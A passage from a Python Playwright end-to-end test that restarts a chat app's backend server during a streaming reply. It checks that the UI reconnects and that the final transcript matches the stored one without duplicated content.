        page.get_by_role("textbox", name="Message").fill("Survive a restart")
        page.get_by_role("textbox", name="Message").press("Enter")
        expect(page.locator(".msg.streaming .md")).to_contain_text("word10", timeout=30_000)

        if how == "kill":
            up.kill()
        else:
            up.stop()
        expect(page.locator("section.chat")).to_have_attribute("data-feed", "reconnecting")
        up.start()
        expect(page.locator("section.chat")).to_have_attribute("data-feed", "live", timeout=30_000)
        expect(page.locator(".md").filter(has_text="All done now.")).to_have_count(1, timeout=90_000)
        wait_idle_in_ui(page, timeout=90_000)
        shown = normalized(transcript(page))
        assert shown == normalized(stored_transcript(rest, chat["id"]))
        assert [role for role, _ in shown] == ["user", "assistant"]
        assert sum(text.count("First part.") for _, text in shown) == 1
        errors.check()
    finally:
        up.stop()
